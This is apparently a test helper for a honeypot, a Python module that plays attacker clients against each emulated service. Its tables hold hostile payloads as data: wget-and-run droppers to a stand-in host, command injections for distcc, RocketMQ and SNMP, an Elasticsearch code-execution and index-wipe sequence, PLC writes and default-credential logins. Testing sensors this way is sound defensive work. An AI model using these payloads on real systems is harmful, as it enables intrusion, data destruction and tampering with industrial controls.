"""How a client gets to where it waits in each room: logged in where there is a login, answered where there is none.

    with enter("mysql", ("127.0.0.1", 3306)) as sock: ...       over TCP
    with exchange("dns", ("127.0.0.1", 53)) as sock: ...        over UDP

The words are those of the rooms' tests. Every room has a row in `ENTRIES`, or says in `UDP_ALONE` why it has none; what
takes datagrams has one in `DATAGRAMS`. `tests/tidy/test_bench.py` says who is missing, and plays them all.
"""

from __future__ import annotations

import json
import socket
import ssl
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import TypeAlias

TESTS = Path(__file__).resolve().parents[1] / "tests"
sys.path.insert(0, str(TESTS))

import smb_load  # noqa: E402
import ssh_load  # noqa: E402
from eudaemon.protocols.git.repository import NAMES as REPOSITORIES  # noqa: E402
from eudaemon.protocols.snmp import messages  # noqa: E402
from eudaemon.protocols.snmp.written import EXTEND  # noqa: E402
from eudaemon.wire import ber  # noqa: E402
from protocols import mongo_client, mssql_client, mysql_client, postgres_client, rdp_client, smb_client  # noqa: E402
from protocols import test_distcc as distcc  # noqa: E402
from protocols import test_elasticsearch as elastic  # noqa: E402
from protocols import test_git as git_words  # noqa: E402
from protocols import test_ipp as ipp  # noqa: E402
from protocols import test_java as java  # noqa: E402
from protocols import test_jdwp as jdwp  # noqa: E402
from protocols import test_modbus as modbus  # noqa: E402
from protocols import test_netbios as netbios  # noqa: E402
from protocols import test_ntp as ntp  # noqa: E402
from protocols import test_pptp as pptp  # noqa: E402
from protocols import test_rocketmq as rocketmq  # noqa: E402
from protocols import test_s7 as s7  # noqa: E402
from protocols import test_smartinstall as smartinstall  # noqa: E402
from protocols import test_snmp as snmp  # noqa: E402
from protocols import test_tftp as tftp  # noqa: E402
from protocols.adb_client import CONNECT, frame  # noqa: E402
from telnet_load import WORDS  # noqa: E402

ANSWER_S_MAX = 30.0
ANYWHERE = ("", 0)
CONTEXT = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CONTEXT.check_hostname, CONTEXT.verify_mode = False, ssl.CERT_NONE
GET = b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n"

Address: TypeAlias = "tuple[str, int]"
Entry: TypeAlias = "Callable[[Address, Address], socket.socket]"  # to where, and from where


class ClosedError(Exception):
    """The sensor hung up, or let nobody in."""


class Peer:
    """A client's end of a connection."""

    def __init__(self, address: Address, source: Address) -> None:
        self.socket = socket.create_connection(address, ANSWER_S_MAX, source)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def hear(self, mark: bytes = b"") -> bytes:
        """Return what comes until `mark` is in it, or what comes first. Raises `ClosedError`."""
        heard = b""
        while not heard or mark not in heard:
            piece = self.socket.recv(65_536)
            if not piece:
                raise ClosedError(f"it hung up after {heard[-80:]!r} while {mark!r} was waited for")
            heard += piece
        return heard

    def ask(self, said: bytes, mark: bytes = b"") -> bytes:
        """Say something and return the answer."""
        self.socket.sendall(said)
        return self.hear(mark)


def asks(*steps: tuple[bytes, bytes] | bytes, greeted: bytes | None = None, then: bytes = b"") -> Entry:
    """Return an entry that asks one thing after the other, each with what its answer has in it, and says `then`."""

    def entry(address: Address, source: Address) -> socket.socket:
        peer = Peer(address, source)
        if greeted is not None:
            peer.hear(greeted)
        for step in steps:
            peer.ask(*(step if isinstance(step, tuple) else (step,)))
        peer.socket.sendall(then)
        return peer.socket

    return entry


def says(said: bytes) -> Entry:
    """Return an entry that is answered nothing."""

    def entry(address: Address, source: Address) -> socket.socket:
        peer = Peer(address, source)
        peer.socket.sendall(said)
        return peer.socket

    return entry


def driven(kind: Callable[[Address, dict[str, bytes], float, Address], ssh_load.Session | smb_load.Session],
           words: dict[str, bytes]) -> Entry:  # fmt: skip
    """Return an entry by a load program's session, up to where it is in."""

    def entry(address: Address, source: Address) -> socket.socket:
        session = kind(address, words, 0.0, source)
        session.socket.setblocking(True)
        session.socket.settimeout(ANSWER_S_MAX)
        while not session.is_in:
            if session.hear():
                raise ClosedError("a login failed")
        return session.socket

    return entry


def mysql(address: Address, source: Address) -> socket.socket:
    """Log in to MySQL, whose greeting has a salt."""
    peer = Peer(address, source)
    peer.ask(mysql_client.login(peer.hear(b"native_password\0")), b"\0\0\x02\0\0\0\x02\0\0\0")
    return peer.socket


def kubelet(address: Address, source: Address) -> socket.socket:
    """Ask for the pods, in TLS: a kubelet knows nothing else at its own port."""
    peer = Peer(address, source)
    peer.socket = CONTEXT.wrap_socket(peer.socket)
    peer.ask(GET.replace(b"/ ", b"/pods ", 1), b"HTTP/1.1 ")
    return peer.socket


def git(address: Address, source: Address) -> socket.socket:
    """Try names until there is a repository, as scanners do; there, announce what will be pushed."""
    for name in REPOSITORIES:
        peer = Peer(address, source)
        with suppress(ClosedError):
            told = peer.ask(git_words.line(f"git-receive-pack /{name}.git\0host=a\0"), b"\n0000")
            update = f"{told[4:44].decode()} {git_words.NEW} refs/heads/x\0report-status"
            peer.socket.sendall(git_words.line(update) + b"0000")
            return peer.socket
        peer.socket.close()
    raise ClosedError("it has no repository")


def socks(address: Address, source: Address) -> socket.socket:
    """Agree on a method, and log in where that is asked for. Whom it is to reach is the last that is said."""
    peer = Peer(address, source)
    if peer.ask(b"\5\2\0\2") == b"\5\2":
        user, password = WORDS["user"], WORDS["password"]
        peer.ask(b"\1" + bytes((len(user),)) + user + bytes((len(password),)) + password, b"\1\0")
    return peer.socket


def vnc(address: Address, source: Address) -> socket.socket:
    """Agree on a version, and choose what is offered first: there one waits for a challenge or for a screen."""
    peer = Peer(address, source)
    peer.hear(b"\n")
    peer.ask(peer.ask(b"RFB 003.008\n")[1:2])
    return peer.socket


# A client that has none, as bots' are: others have TLS for the login, and all of it where the server says so.
WITHOUT_TLS = mssql_client.PRELOGIN[:32] + b"\2" + mssql_client.PRELOGIN[33:]
_ROW = ((2, ber.encoded(ber.OCTETS, b"/bin/sh")), (3, ber.encoded(ber.OCTETS, b'-c "id"')), (21, ber.number(4)))
SNMP = (
    snmp.ask(messages.GET_NEXT, (1, 3)),
    snmp.ask(
        messages.SET,
        *((*EXTEND, column, *snmp.INDEX) for column, _ in _ROW),
        values=tuple(value for _, value in _ROW),
        community=b"private",
    ),
)
# One address gets in with one password for a user, wherever: telnet's and SSH's is xc3511.
ENTRIES: dict[str, Entry] = {
    "activemq": asks(greeted=b""),
    "adb": asks((CONNECT, b"CNXN"), (frame(b"OPEN", 1, 0, b"shell:\0"), b"OKAY")),
    "backdoor": says(b"PW"),
    "catchall": says(b"hello\r\n"),
    "cmd": asks(
        (b"echo open 192.0.2.9>o&echo get x.exe>>o&echo bye>>o\r\n", b">"),
        (b"ftp -s:o&ver\r\n", b"Version"),
        greeted=b">",
    ),
    "distcc": asks((distcc.attack(b"cd /tmp;wget http://192.0.2.9/x;id"), b"DOTO")),
    "dns": asks(b"\0\x1e\0\x06\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03"),
    "docker": asks((GET.replace(b"/ ", b"/version ", 1), b"ApiVersion")),
    "elasticsearch": asks(
        (elastic.request("GET", "/_cat/indices?v"), b"docs.count"),
        (elastic.request("POST", "/_search", json.dumps(elastic.search(elastic.GROOVY.format("id")))), b"uid="),
        (elastic.request("DELETE", "/_all"), b"acknowledged"),
        (elastic.request("PUT", "/read_me/_doc/1", json.dumps({"note": elastic.NOTE})), b"read_me"),
    ),
    "epmap": asks(smb_client.BIND_ALIVE),
    "ftp": asks((b"USER root\r\n", b"331"), (b"PASS xc3511\r\n", b"230"), greeted=b"220"),
    "git": git,
    "http": asks(GET),
    "imap": asks((b"1 LOGIN root xc3511\r\n", b"1 OK"), (b"2 SELECT INBOX\r\n", b"2 OK"), greeted=b"* OK"),
    "ipp": asks(
        (ipp.posted(ipp.message(0x000B)), b"printer-name"),
        (ipp.posted(ipp.message(0x0002, data=ipp.PPD.encode())), b"job-id"),
    ),
    "java": asks((java.HELLO, b"N\0"), (java.US + java.call(1), b"String;")),
    "jdwp": asks((jdwp.HANDSHAKE, jdwp.HANDSHAKE), jdwp.packet(1, 7), jdwp.packet(1, 4)),
    "jenkins": asks(GET),
    "kubelet": kubelet,
    "ldap": asks(b"\x30\x0c\2\1\1\x60\x07\2\1\3\4\0\x80\0"),
    "memcached": asks((b"version\r\n", b"VERSION")),
    "modbus": asks(
        modbus.request(43, b"\x0e\1\0"), modbus.request(3, b"\0\0\0\x0a"), modbus.request(6, b"\0\4\xbe\xef")
    ),
    "mongodb": asks(mongo_client.msg({"hello": 1})),
    "mqtt": asks(b"\x10\x10\0\x04MQTT\x04\x02\0\x1e\0\x04nmap", b"\x82\x06\0\x01\0\x01#\0"),
    "mssql": asks(mssql_client.packets(0x12, WITHOUT_TLS), mssql_client.login()),
    "mysql": mysql,
    "pop3": asks((b"USER root\r\n", b"+OK"), (b"PASS xc3511\r\n", b"+OK"), greeted=b"+OK"),
    "postgres": asks((postgres_client.started(), b"R"), (postgres_client.message(b"p", b"postgres\0"), b"Z\0\0\0\5")),
    "pptp": asks(pptp.START, pptp.CALL),
    "printer": asks(b"\x1b%-12345X@PJL INFO ID\r\n"),
    "proxy": asks(
        (b"GET http://192.0.2.9/ HTTP/1.1\r\nProxy-Authorization: Basic cm9vdDp4YzM1MTE=\r\n\r\n", b"X-Squid-Error")
    ),
    "rdp": asks(
        rdp_client.request(b"mstshash=a", None),
        rdp_client.connect("rdpdr"),
        rdp_client.ERECT + rdp_client.ATTACH,
        rdp_client.join(1003),
    ),
    "redis": asks(b"*1\r\n$4\r\nINFO\r\n"),
    "rocketmq": asks((rocketmq.frame(25, b"rocketmqHome=-c $@|sh . echo id;"), b"opaque")),
    "rtsp": asks((b"OPTIONS * RTSP/1.0\r\nCSeq: 1\r\n\r\n", b"RTSP/1.0")),
    "s7": asks(s7.CONNECT, s7.SETUP, bytes.fromhex(s7.LIST.format(0x11)), s7.job("29000000000009505f50524f4752414d")),
    "sh": asks((b"cd /tmp;wget http://192.0.2.9/x;chmod +x x;id\n", b"uid=")),
    "sip": asks((b"OPTIONS sip:a SIP/2.0\r\nVia: SIP/2.0/TCP a\r\nCSeq: 1 OPTIONS\r\n\r\n", b"SIP/2.0")),
    "smartinstall": asks(smartinstall.HELLO, then=smartinstall.commands(*smartinstall.COPIES)),
    "smb": driven(smb_load.Session, smb_load.WORDS),
    "smtp": asks((b"EHLO a\r\n", b"250 "), greeted=b"220"),
    "snmp": asks(*SNMP),
    "socks": socks,
    "ssh": driven(ssh_load.Session, WORDS),
    "telnet": asks((WORDS["user"] + b"\r\n", b"assword:"), (WORDS["password"] + b"\r\n", b"#"), greeted=b"ogin:"),
    "tr069": asks(GET),
    "upnp": asks((GET.replace(b"/ ", b"/picsdesc.xml ", 1), b"HTTP/1.")),
    "vnc": vnc,
    "yarn": asks(GET),
}
UDP_ALONE = {
    "netbios": "names are asked for by datagrams",
    "ntp": "so is the time",
    "tftp": "RFC 1350 knows no connections",
}
# What a client says in datagrams, one after the other. The last is answered, but where it says otherwise.
DATAGRAMS: dict[str, tuple[bytes, ...]] = {
    "catchall": (b"orf;cd /tmp;wget http://192.0.2.9/x",),
    "dns": (b"\0\6\1\0\0\1\0\0\0\0\0\0\7version\4bind\0\0\x10\0\3",) * 3,
    "ipp": (b"0 3 http://192.0.2.9:631/printers/a",),
    "ldap": (b"\x30\x25\2\1\1\x63\x20\4\0\x0a\1\0\x0a\1\0\2\1\0\2\1\0\1\1\0\x87\x0bobjectclass\x30\0",) * 32,
    "memcached": (b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n", b"\0\2\0\0\0\1\0\0get a\r\n"),
    "netbios": (netbios.ALL,) * 4,
    "ntp": (b"\x17\0\3\x2a" + bytes(4), ntp.QUESTION),
    "sip": (b"OPTIONS sip:100@a SIP/2.0\r\nVia: SIP/2.0/UDP a;branch=a\r\nCSeq: 1 OPTIONS\r\n\r\n",) * 8,
    "snmp": (snmp.ask(messages.GET, snmp.DESCRIPTION),) * 8,
    "tftp": (tftp.WRITE, tftp.data(1, b"\x7fELF")),
    "upnp": (b'M-SEARCH * HTTP/1.1\r\nHost: 239.255.255.250:1900\r\nMan: "ssdp:discover"\r\nST: ssdp:all\r\n\r\n',) * 8,
}
UNANSWERED = ("catchall", "ipp")


def enter(room: str, address: Address, source: Address = ANYWHERE) -> socket.socket:
    """Come in, and stay. Raises `ClosedError` or `OSError`."""
    return ENTRIES[room](address, source)


def datagrams(address: Address, source: Address) -> socket.socket:
    """Return a socket whose datagrams go there."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(source)
    sock.connect(address)
    return sock


def exchange(room: str, address: Address, source: Address = ANYWHERE) -> socket.socket:
    """Say this room's datagrams, and wait for an answer where it gives one. Raises `OSError`."""
    sock = datagrams(address, source)
    try:
        for data in DATAGRAMS[room]:
            sock.send(data)
        if room not in UNANSWERED:
            sock.settimeout(ANSWER_S_MAX)
            sock.recv(65_536)
    except OSError:
        sock.close()
        raise
    return sock
